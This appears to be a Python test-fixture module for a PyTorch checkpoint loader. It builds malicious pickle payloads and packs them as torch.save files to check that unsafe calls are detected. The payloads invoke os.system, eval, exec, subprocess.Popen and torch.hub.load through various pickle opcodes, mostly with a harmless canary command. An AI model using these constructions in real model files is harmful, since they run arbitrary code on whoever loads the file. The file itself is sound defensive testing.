"""Pickles and archives made to do harm."""

from __future__ import annotations

import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from s2p_tui.formats.torch_files import MAGIC_NUMBER


def as_zip(payload: bytes, path: Path) -> Path:
    """A `torch.save` file whose pickle is the payload."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", bytes(48))
    return path


def as_legacy(payload: bytes, path: Path) -> Path:
    head = (MAGIC_NUMBER, 1001, {"little_endian": True})
    tail = struct.pack("<q", 12) + bytes(48)
    path.write_bytes(b"".join(pickle.dumps(v, 2) for v in head) + payload
                     + pickle.dumps(["0"], 2) + tail)  # fmt: skip
    return path


class Calls:
    """Pickles as a call of a function with arguments."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


CANARY = "canary"
SONG = f"__import__('pathlib').Path('{CANARY}').touch()"
touch = f"touch {CANARY}".encode()


def text(value: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value


PAYLOADS: dict[str, tuple[bytes, str]] = {
    "os.system": (pickle.dumps({"w": Calls(os.system, touch.decode())}, 2), "posix.system"),
    "eval": (pickle.dumps(Calls(eval, SONG), 2), "__builtin__.eval"),
    "exec 4": (pickle.dumps(Calls(exec, SONG), 4), "builtins.exec"),
    "getattr": (b"\x80\x02cbuiltins\ngetattr\ncos\nsystem\n" + text(b"x") + b"\x86R.",
                "builtins.getattr"),
    "torch.hub": (b"\x80\x02ctorch.hub\nload\n(" + text(b"evil/repo") + text(b"m") + b"tR.",
                  "torch.hub.load"),
    "load_from_bytes": (b"\x80\x02ctorch.storage\n_load_from_bytes\n(C\x01xtR.",
                        "torch.storage._load_from_bytes"),
    "numpy objects": (pickle.dumps({"w": np.array([Calls(os.system, "x")], object)}, 2),
                      "_reconstruct"),
    "runstring": (b"\x80\x02cnumpy.testing._private.utils\nrunstring\n(" + text(touch) + b"}tR.",
                  "runstring"),
    "INST": (b"\x80\x02(X" + struct.pack("<I", len(touch)) + touch + b"ios\nsystem\n.",
             "os.system"),
    "NEWOBJ": (b"\x80\x02csubprocess\nPopen\n(" + text(touch) + b"t\x81.", "subprocess.Popen"),
    "NEWOBJ_EX": (b"\x80\x04csubprocess\nPopen\n(" + text(touch) + b"t}\x92.",
                  "subprocess.Popen"),
    "STACK_GLOBAL": (b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x05touch\x85R.", "os.system"),
    "dotted": (b"\x80\x04\x8c\x05torch\x8c\x0ejit._os.system\x93\x8c\x01x\x85R.", "system"),
    "space": (b"\x80\x02cos system\nx\n.", "os.system x"),
    "BUILD": (b"\x80\x02cos\nsystem\n}" + text(b"__setstate__") + b"cbuiltins\neval\nsb.",
              "os.system"),
    "extension": (b"\x80\x02\x82\x01.", "usable"),
    "nested module": (b"\x80\x04\x8c\x02os\x85\x8c\x06system\x93.", "not a string"),
}  # fmt: skip


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def zipped(path: Path, files: list[tuple[str, bytes]], how: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", how) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return path
